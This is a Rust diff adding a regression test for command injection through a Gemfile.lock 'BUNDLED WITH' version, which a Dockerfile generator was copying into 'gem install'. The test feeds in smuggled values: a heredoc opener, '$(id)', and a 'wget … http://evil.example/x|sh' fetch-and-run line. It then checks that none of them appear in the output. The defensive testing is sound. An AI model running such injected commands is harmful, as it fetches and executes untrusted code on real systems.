@@ -187,6 +187,40 @@ fn a_pom_version_cannot_inject_a_dockerfile_instruction() {
     assert!(dockerfile.contains("-name '*.jar'"), "{dockerfile}");
 }
 
+/// Found by the Gemfile.lock fuzz target: the lock's `BUNDLED WITH` went as it was into
+/// `gem install bundler -v …` in the Dockerfile and the job scripts, so `2.5.<<EOF` opened a
+/// heredoc (a Dockerfile pipewright's own validator rejected) and `2.5.6;…` ran a command.
+#[test]
+fn a_lockfile_version_is_never_a_shell_command() {
+    for bundled_with in [
+        "2.5.<<EOF",
+        "2.5.6;wget -qO- http://evil.example/x|sh",
+        "2.5.6 $(id)",
+    ] {
+        let repo = tempfile::tempdir().expect("tempdir");
+        copy_fixture("ruby-sinatra-rackup", repo.path());
+        let lock = repo.path().join("Gemfile.lock");
+        let text = std::fs::read_to_string(&lock).expect("lock");
+        let (head, _) = text.split_once("BUNDLED WITH").expect("BUNDLED WITH");
+        std::fs::write(&lock, format!("{head}BUNDLED WITH\n   {bundled_with}\n")).expect("write");
+        let (out, body) = generate_json(repo.path());
+        assert!(
+            out.status.success(),
+            "{bundled_with}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        for (name, text) in body["files"].as_object().expect("files") {
+            let text = text.as_str().expect("text");
+            for bad in ["<<EOF", "evil.example", "$(id)"] {
+                assert!(
+                    !text.contains(bad),
+                    "{bundled_with}: {name} holds {bad}\n{text}"
+                );
+            }
+        }
+    }
+}
+
 #[test]
 fn the_validator_flags_a_dockerfile_that_runs_a_download() {
     let dir = tempfile::tempdir().expect("tempdir");
